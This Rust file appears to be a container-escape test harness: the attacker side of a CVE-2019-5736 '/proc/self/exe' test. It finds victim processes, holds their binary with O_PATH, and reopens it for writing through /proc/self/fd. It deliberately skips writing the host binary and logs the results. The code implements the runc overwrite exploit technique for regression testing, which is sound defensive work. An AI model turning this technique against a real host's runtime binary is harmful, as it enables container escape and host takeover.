//! Runs inside a container (compiled static by escapes.rs, std only): the
//! CVE-2019-5736 attacker of the `/proc/self/exe` kind. A victim process in
//! the same pid namespace is a container program that the runtime exec'd as
//! `/proc/self/exe` (directly, through a symlink or as a `#!` interpreter)
//! with arguments that make it block opening OUT/fifo. For each victim this
//! process opens `/proc/VICTIM/exe` (O_PATH), lets the victim go by writing
//! to the fifo, waits for it to exit (the binary is then no longer busy),
//! and reopens the held descriptor for writing through /proc/self/fd/N. The
//! host's binary is never written: reopening it is proof enough. A copy
//! that is not the host's file gets one byte appended, which must fail.
//!
//! argv: self_exe HOST_DEV HOST_INO OUT
//! Appends one line per victim to OUT/results:
//! `victim host=BOOL reopen=ok|ERR write=ok|ERR|skipped`.

use std::fs::{self, OpenOptions};
use std::io::Write;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::os::unix::io::AsRawFd;
use std::path::Path;
use std::time::{Duration, Instant};

const O_PATH: i32 = 0o10000000;
const O_NONBLOCK: i32 = 0o4000;

fn victim(me: u32, fifo: &str) -> Option<u32> {
    for e in fs::read_dir("/proc").ok()?.flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<u32>().ok()) else {
            continue;
        };
        if pid == me {
            continue;
        }
        let Ok(cmd) = fs::read(format!("/proc/{pid}/cmdline")) else {
            continue;
        };
        if cmd.split(|b| *b == 0).any(|a| a == fifo.as_bytes()) {
            return Some(pid);
        }
    }
    None
}

/// Gone, or a zombie: its memory (and the busy binary) is released.
fn exited(pid: u32) -> bool {
    match fs::read_to_string(format!("/proc/{pid}/stat")) {
        Err(_) => true,
        Ok(s) => s
            .rsplit(')')
            .next()
            .is_some_and(|r| r.trim_start().starts_with('Z')),
    }
}

fn main() {
    let a: Vec<String> = std::env::args().collect();
    let host: (u64, u64) = (a[1].parse().unwrap(), a[2].parse().unwrap());
    let out = Path::new(&a[3]).to_path_buf();
    let fifo = out.join("fifo").to_string_lossy().into_owned();
    let me = std::process::id();
    let deadline = Instant::now() + Duration::from_secs(600);
    fs::write(out.join("ready"), "").unwrap();
    while Instant::now() < deadline && !out.join("stop").exists() {
        let Some(pid) = victim(me, &fifo) else {
            std::thread::sleep(Duration::from_millis(2));
            continue;
        };
        let line = match OpenOptions::new()
            .read(true)
            .custom_flags(O_PATH)
            .open(format!("/proc/{pid}/exe"))
        {
            Err(e) => format!("victim host=false open={e}"),
            Ok(exe) => {
                let is_host = exe
                    .metadata()
                    .is_ok_and(|m| (m.dev(), m.ino()) == host);
                // Let the victim go, and wait until it has exited.
                // Non-blocking: a victim that failed before opening the fifo
                // must not hang us.
                while !exited(pid) {
                    match OpenOptions::new()
                        .write(true)
                        .custom_flags(O_NONBLOCK)
                        .open(&fifo)
                    {
                        Ok(mut f) => {
                            let _ = f.write_all(b"{}");
                            break;
                        }
                        Err(_) => std::thread::sleep(Duration::from_millis(2)),
                    }
                }
                let t = Instant::now();
                while !exited(pid) && t.elapsed() < Duration::from_secs(20) {
                    std::thread::sleep(Duration::from_millis(5));
                }
                let again = format!("/proc/self/fd/{}", exe.as_raw_fd());
                let (reopen, write) = match OpenOptions::new().append(true).open(&again) {
                    Err(e) => (e.to_string(), "skipped".to_string()),
                    Ok(_) if is_host => ("ok".to_string(), "skipped".to_string()),
                    Ok(mut f) => (
                        "ok".to_string(),
                        match f.write(&[0]) {
                            Ok(_) => "ok".to_string(),
                            Err(e) => e.to_string(),
                        },
                    ),
                };
                format!("victim host={is_host} reopen={reopen} write={write}")
            }
        };
        let mut r = OpenOptions::new()
            .create(true)
            .append(true)
            .open(out.join("results"))
            .unwrap();
        writeln!(r, "{line}").unwrap();
        // The victim is gone (or a zombie that no longer names the fifo
        // once reaped); do not take it twice.
        let t = Instant::now();
        while victim(me, &fifo) == Some(pid) && t.elapsed() < Duration::from_secs(20) {
            std::thread::sleep(Duration::from_millis(5));
        }
    }
}
